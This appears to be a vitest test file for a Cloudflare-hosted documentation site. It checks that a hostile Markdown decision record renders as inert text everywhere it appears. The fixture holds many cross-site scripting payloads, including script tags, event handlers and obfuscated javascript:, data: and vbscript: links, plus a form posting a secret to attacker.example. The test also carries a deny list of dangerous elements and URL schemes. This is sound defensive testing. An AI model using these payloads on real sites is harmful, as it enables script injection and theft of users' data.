// A document written to attack its readers renders inert on every page of the docs site that
// shows it: no script, no event-handler attribute, no javascript:, data: or vbscript: target, no
// frame, form or style of its own — its markup is shown as text. Checked on the HTML as served,
// element by element, with workerd's own HTML parser.
import { createExecutionContext, env } from 'cloudflare:test';
import { beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../../src/http/app';
import { forgetCachedPages } from '../../../src/http/docs/page-cache';
import { filesFrom, publishFixture, resourceDocsConfig, resourceFiles } from '../helpers/fixtures';

const app = createApp();

const HOSTILE_ADR = `---
title: "Use <img src=x onerror=alert(1)> for everything"
status: accepted
tags: ["<script>alert(2)</script>"]
---

# Use <img src=x onerror=alert(1)> for everything

<script>window.pwned = 1</script>

<img src="x" onerror="window.pwned = 2">

<iframe src="https://attacker.example/frame"></iframe>

<svg onload="window.pwned = 3"><circle r="4"/></svg>

<style>body { display: none }</style>

<form action="https://attacker.example/steal"><input name="secret"></form>

<a href="javascript:window.pwned=4">html link</a> and <b onmouseover="window.pwned=5">bold</b>

## Context <img src=x onerror=alert(6)>

Links: [plain](javascript:alert(7)), [upper](JAVASCRIPT:alert(8)), [tabbed](java&#9;script:alert(9)),
[spaced]( javascript:alert(10)), [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=),
[vb](vbscript:msgbox(12)), <javascript:alert(13)>, [ref link][evil] and [entity](&#106;avascript:alert(14)).

![image](javascript:alert(15)) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTYpPjwvc3ZnPg==)

| option | note |
| --- | --- |
| <script>alert(17)</script> | <a href="javascript:alert(18)">x</a> |

A link that stays: [the pattern](../patterns/circuit-breaker.md) and [a site](https://example.com/docs).

[evil]: javascript:alert(19)

## Decision

We use pwned-token everywhere.
`;

interface Found {
  elements: { tag: string; attributes: [string, string][] }[];
}

/** Every element of the served page with its attributes, as a browser's parser would see them. */
async function parse(html: string): Promise<Found> {
  const found: Found = { elements: [] };
  await new HTMLRewriter()
    .on('*', {
      element(el) {
        found.elements.push({ tag: el.tagName, attributes: [...el.attributes] as [string, string][] });
      },
    })
    .transform(new Response(html))
    .text();
  return found;
}

async function served(path: string): Promise<string> {
  const res = await app.request(new Request(`http://127.0.0.1${path}`), undefined, env, createExecutionContext());
  expect(res.status, path).toBe(200);
  return res.text();
}

/** Elements no document may bring into a page (the site's own pages have none of them). */
const FORBIDDEN = new Set(['iframe', 'frame', 'object', 'embed', 'svg', 'math', 'style', 'base', 'template']);
const DANGEROUS_TARGET = /^(?:javascript|data|vbscript|file):/i;

async function assertInert(path: string): Promise<string> {
  const html = await served(path);
  const { elements } = await parse(html);
  for (const { tag, attributes } of elements) {
    expect(FORBIDDEN.has(tag), `${path}: <${tag}>`).toBe(false);
    if (tag === 'meta') expect(attributes.map(([n]) => n), `${path}: a meta element`).not.toContain('http-equiv');
    if (tag === 'script') expect(attributes.find(([n]) => n === 'src')?.[1], `${path}: an inline script`).toMatch(/^\/docs\/assets\/site\.js\?v=/);
    if (tag === 'form') expect(attributes.find(([n]) => n === 'action')?.[1], `${path}: a form`).toMatch(/^\/docs\/(search|auth\/sign-out)$/);
    for (const [name, value] of attributes) {
      expect(name.startsWith('on'), `${path}: <${tag} ${name}="${value}">`).toBe(false);
      if (['href', 'src', 'action', 'formaction', 'srcset', 'xlink:href'].includes(name)) {
        expect(DANGEROUS_TARGET.test(value.replace(/[\u0000-\u0020]/g, '')), `${path}: <${tag} ${name}="${value}">`).toBe(false);
      }
    }
  }
  return html;
}

describe('a hostile document on the docs site', () => {
  beforeAll(async () => {
    await publishFixture([...resourceFiles(), ...filesFrom({ 'adr/0099-hostile-markup.md': HOSTILE_ADR })], resourceDocsConfig());
    forgetCachedPages();
  });

  it('should render its own page inert, showing its markup as text', async () => {
    const html = await assertInert('/docs/doc/adr/0099-hostile-markup');
    expect(html).toContain('&lt;script&gt;window.pwned = 1&lt;/script&gt;');
    expect(html).toContain('&lt;img src=&quot;x&quot; onerror=&quot;window.pwned = 2&quot;&gt;');
    expect(html).toContain('<span class="dead-link">plain</span>');
    expect(html).toContain('<span class="dead-link">data</span>');
    expect(html).toContain('<span class="dead-link">ref link</span>');
    expect(html).toContain('<a href="/docs/doc/patterns/circuit-breaker">the pattern</a>');
    expect(html).toContain('<a href="https://example.com/docs">a site</a>');
  });

  it.each([
    ['the search page', '/docs/search?q=pwned-token'],
    ['the decision log', '/docs/adrs/adr'],
    ['a page it links to', '/docs/doc/patterns/circuit-breaker'],
    ['the home page', '/docs'],
  ])('should stay inert where it is listed: %s', async (_, path) => {
    const html = await assertInert(path);
    if (path !== '/docs') expect(html).toContain('Use &lt;img src=x onerror=alert(1)&gt; for everything');
  });
});
